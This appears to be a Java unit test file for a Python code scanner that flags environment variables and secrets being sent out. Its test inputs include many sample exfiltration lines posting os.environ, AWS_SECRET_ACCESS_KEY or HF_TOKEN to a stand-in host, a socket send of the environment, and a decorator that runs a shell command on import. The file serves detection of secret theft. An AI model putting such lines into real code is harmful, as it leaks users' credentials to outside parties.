package io.casemate.scan.python;

import static org.assertj.core.api.Assertions.assertThat;

import io.casemate.scan.trial.Trial;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The environment of a process, on its way out. */
class SentSecretsTest {
    private static Trial read(String source) {
        return Trial.of(new PythonScanner(), source.getBytes(StandardCharsets.UTF_8));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "requests.post('http://x', json=dict(os.environ))",
                "requests.get('http://x', params={'e': str(os.environ)})",
                "requests.Session().post('http://x', data=json.dumps(os.environ.copy()))",
                "requests.post('http://x', headers={'e': repr(dict(os.environ))})",
                "requests.post('http://x', data={**os.environ})",
                "requests.get(f'http://x/?e={dict(os.environ)}')",
                "requests.get('http://x/?e=' + str(os.environ))",
                "requests.get('http://x/?e=%s' % os.environ)",
                "urllib.request.urlopen('http://x', data=json.dumps(dict(os.environ)).encode())",
                "urllib.request.urlopen('http://x', urllib.parse.urlencode({k: v for k, v in os.environ.items()}).encode())",
                "requests.post('http://x', json=[v for v in os.environ.values()])",
                "requests.post('http://x', data={'k': os.environ['AWS_SECRET_ACCESS_KEY']})",
                "requests.post('http://x', data={'k': os.getenv('HF_TOKEN')})"
            })
    void the_environment_is_sent(String call) {
        String imports = "import os, json, requests, socket\nimport urllib.request, urllib.parse\n";
        assertThat(read(imports + call + "\n").rules()).contains("python/dangerous-call");
        assertThat(read(imports + "def f():\n    " + call + "\n").rules()).contains("python/sent-secrets");
    }

    @Test
    void the_environment_is_sent_by_way_of_variables_and_loops() {
        assertThat(
                        read("import os, socket\ndef f():\n    s = socket.socket()\n    d = dict(os.environ)\n    t = str(d)\n"
                                        + "    s.sendall(t.encode())\n")
                                .rules())
                .contains("python/sent-secrets");
        assertThat(read("import os, requests\ndef f():\n    for k, v in os.environ.items():\n"
                                + "        requests.get('http://x', params={k: v})\n")
                        .rules())
                .contains("python/sent-secrets");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "wandb.init(project=os.environ['WANDB_PROJECT'], config=dict(os.environ))",
                "requests.get('http://x', headers={'Authorization': 'Bearer ' + os.environ['HF_TOKEN']})",
                "requests.get('http://x', headers={'Authorization': f'Bearer {os.getenv(\"HF_TOKEN\")}'})",
                "requests.post(os.environ['URL'], json={'rank': os.environ.get('RANK')})",
                "requests.get('http://%s/' % os.environ['HOST'])",
                "api.upload_folder(token=os.environ['HF_TOKEN'])",
                "subprocess.run(['git', 'status'], env=dict(os.environ))",
                "socket.create_connection((os.environ['MASTER_ADDR'], 29500))",
                "env = {k: v for k, v in os.environ.items()}"
            })
    void honest_use_of_the_environment_is_not_told(String call) {
        String imports = "import os, requests, socket, subprocess, wandb\n";
        assertThat(read(imports + "def f():\n    " + call + "\n").rules()).isSubsetOf("python/noted-call");
    }

    @Test
    void a_lambda_that_decorates_runs_on_import() {
        assertThat(read("f = lambda c: __import__('subprocess').getoutput(c)\n@f\nclass x:\n    pass\n")
                        .rules())
                .containsAnyOf("python/risky-call", "python/dangerous-call");
    }
}
